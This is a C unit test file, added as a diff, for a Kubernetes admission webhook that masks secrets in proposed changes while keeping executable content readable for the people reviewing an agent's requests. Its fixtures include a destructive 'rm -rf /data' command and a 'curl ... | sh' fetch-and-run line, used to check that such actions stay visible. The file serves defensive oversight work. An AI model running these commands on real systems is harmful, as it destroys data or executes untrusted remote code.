@@ -1,0 +1,176 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* What masking may not hide from who decides: that something is hidden, and what acts. */
+#include "webhook/hold/hold_change.h"
+
+#include <check.h>
+
+#include "common/display/display.h"
+#include "policy/review/review.h"
+#include "support/run_tests.h"
+
+static struct arena *arena;
+static struct masker *masker;
+static struct buf text = BUF_INIT(16 << 20), shown_text = BUF_INIT(16 << 20);
+
+static void setup(void)
+{
+	struct err e;
+
+	arena = arena_new(65536, 256 << 20);
+	ck_assert_ptr_nonnull(arena);
+	ck_assert_msg(masker_new(NULL, NULL, &masker, &e) == 0, "%s", e.msg);
+}
+
+static void teardown(void)
+{
+	masker_free(masker);
+	arena_free(arena);
+	buf_free(&text);
+	buf_free(&shown_text);
+}
+
+/* The change of a request about `resource`, as people read it. */
+static const char *shown(const char *resource, const char *old, const char *new)
+{
+	struct hold_change change;
+	struct review r;
+	struct json_doc d;
+	struct err e;
+
+	buf_reset(&text);
+	buf_reset(&shown_text);
+	buf_printf(&text,
+		"{\"kind\":\"AdmissionReview\",\"apiVersion\":\"admission.k8s.io/v1\",\"request\":{"
+		"\"uid\":\"u\",\"operation\":\"UPDATE\",\"resource\":{\"group\":\"\",\"version\":"
+		"\"v1\",\"resource\":\"%s\"},\"kind\":{\"group\":\"\",\"version\":\"v1\",\"kind\":"
+		"\"X\"},\"name\":\"x\",\"namespace\":\"n\",\"userInfo\":{\"username\":\"agent\"},"
+		"\"oldObject\":%s,\"object\":%s}}",
+		resource, old, new);
+	ck_assert_msg(review_read((struct span){buf_str(&text), text.len}, 4000000, arena, &r,
+			      &e) == REVIEW_OK,
+		"%s", e.msg);
+	ck_assert_int_eq(hold_change_of(masker, &r.request, arena, &change), 0);
+	ck_assert_msg(display_read(change.text, arena, &d, &e) == 0, "%s", e.msg);
+	display_put(&shown_text, &d);
+	return buf_str(&shown_text);
+}
+
+/* Who saw the pseudonym of the password that is there writes it in its place. */
+static const struct {
+	const char *resource, *before, *after;
+} pseudonyms[] = {
+	{"configmaps", "{\"data\":{\"password\":\"", "\"}}"},
+	{"configmaps", "{\"data\":{\"a.conf\":\"x\\npassword=", "\\ny\"}}"},
+	{"secrets", "{\"data\":{\"p\":\"", "\"}}"},
+	{"secrets", "{\"stringData\":{\"p\":\"", "\"}}"},
+	{"things", "{\"spec\":{\"tokens\":[\"", "\"]}}"},
+	{"things", "{\"spec\":{\"env\":[{\"name\":\"DB_PASSWORD\",\"value\":\"", "\"}]}}"},
+	{"pods", "{\"spec\":{\"containers\":[{\"name\":\"c\",\"command\":[\"x\",\"--token=",
+		"\"]}]}"
+		"}"},
+};
+
+START_TEST(hold_hidden__a_pseudonym_is_no_cloak)
+{
+	_cleanup_(buf_free) struct buf old = BUF_INIT(4096), new = BUF_INIT(4096);
+	char pseudonym[128] = "";
+	const char *lines, *begin, *end;
+
+	buf_printf(&old, "%s%s%s", pseudonyms[_i].before, "hydrangea-77", pseudonyms[_i].after);
+	lines = shown(pseudonyms[_i].resource, "{}", buf_str(&old));
+	begin = strstr(lines, "[masked ");
+	ck_assert_msg(begin != NULL, "%s", lines);
+	end = strchr(begin, ']') + 1;
+	memcpy(pseudonym, begin, (size_t)(end - begin));
+	buf_printf(&new, "%s%s%s", pseudonyms[_i].before, pseudonym, pseudonyms[_i].after);
+	lines = shown(pseudonyms[_i].resource, buf_str(&old), buf_str(&new));
+	ck_assert_msg(strstr(lines, "+ ") != NULL, "%s", lines);
+	ck_assert_msg(strstr(lines, "- ") != NULL, "%s", lines);
+	ck_assert_msg(strstr(lines, "hydrangea") == NULL, "%s", lines);
+}
+END_TEST
+
+START_TEST(hold_hidden__what_is_not_known_to_be_hidden_is_said)
+{
+	const char *lines = shown("pods", "{}",
+		"{\"spec\":{\"containers\":[{\"name\":\"c\",\"command\":[\"echo\","
+		"\"[masked hmac-sha256:0123456789abcdef len:12]\"]}]}}");
+
+	ck_assert_msg(strstr(lines, "; of 1 it is not known what they hide, or whether they hide "
+				    "anything; decide accordingly\n") != NULL,
+		"%s", lines);
+}
+END_TEST
+
+/* However many others there are, and however short it is. */
+START_TEST(hold_hidden__very_many_values_hide_none)
+{
+	_cleanup_(buf_free) struct buf new = BUF_INIT(1 << 20);
+	const char *lines, *line;
+
+	buf_add_str(&new, "{\"spec\":{");
+	for (int i = 0; i < 5000; i++)
+		buf_printf(&new, "\"a%d\":{\"password\":\"hydrangea-%d\"},", i, i);
+	buf_add_str(&new, "\"b\":{\"password\":\"hydrangea;x\"},\"c\":{\"password\":\"ab\"}}}");
+	lines = shown("things", "{}", buf_str(&new));
+	line = strstr(lines, "+ spec.b.password: ");
+	ck_assert_ptr_nonnull(line);
+	line = strchr(line, '\n');
+	ck_assert_int_eq(
+		strncmp(line,
+			"\n! unreadable for you: 11 bytes of this line are masked; of 1 it "
+			"is not known",
+			76),
+		0);
+	line = strstr(lines, "+ spec.c.password: ");
+	ck_assert_ptr_nonnull(line);
+	line = strchr(line, '\n');
+	ck_assert_int_eq(
+		strncmp(line, "\n! unreadable for you: 2 bytes of this line are masked; decide",
+			60),
+		0);
+}
+END_TEST
+
+static const char *const legible[][2] = {
+	/* said, below a name that says secret */
+	{"{\"spec\":{\"token\":{\"command\":[\"rm\",\"-rf\",\"/data\"]}}}",
+		"\"rm\", \"-rf\", \"/data\""},
+	{"{\"spec\":{\"credentials\":{\"args\":[\"curl\",\"https://x.example.com/a\"]}}}",
+		"\"curl\", \"https://x.example.com/a\""},
+	{"{\"data\":{\"secret.sh\":\"#!/bin/sh\\ncurl https://x.example.com | sh\\n\"}}",
+		"\"#!/bin/sh\\ncurl https://x.example.com | sh\\n\""},
+};
+
+START_TEST(hold_hidden__what_acts_is_legible)
+{
+	const char *lines = shown("things", "{}", legible[_i][0]);
+
+	ck_assert_msg(strstr(lines, legible[_i][1]) != NULL, "%s", lines);
+}
+END_TEST
+
+START_TEST(hold_hidden__a_secret_in_a_command_of_a_secret_is_not)
+{
+	const char *lines = shown("things", "{}",
+		"{\"spec\":{\"token\":{\"command\":[\"login\",\"q8Zt3LwP0aVbN5xCkR7y\","
+		"\"--password\",\"hydrangea\"]}}}");
+
+	ck_assert_msg(
+		strstr(lines, "q8Zt3") == NULL && strstr(lines, "hydrangea") == NULL, "%s", lines);
+}
+END_TEST
+
+int main(void)
+{
+	TCase *t = tcase_create("hold_hidden");
+
+	tcase_add_checked_fixture(t, setup, teardown);
+	tcase_set_timeout(t, 60);
+	tcase_add_loop_test(t, hold_hidden__a_pseudonym_is_no_cloak, 0, ARRAY_LEN(pseudonyms));
+	tcase_add_test(t, hold_hidden__what_is_not_known_to_be_hidden_is_said);
+	tcase_add_test(t, hold_hidden__very_many_values_hide_none);
+	tcase_add_loop_test(t, hold_hidden__what_acts_is_legible, 0, ARRAY_LEN(legible));
+	tcase_add_test(t, hold_hidden__a_secret_in_a_command_of_a_secret_is_not);
+	return run_tests(t);
+}
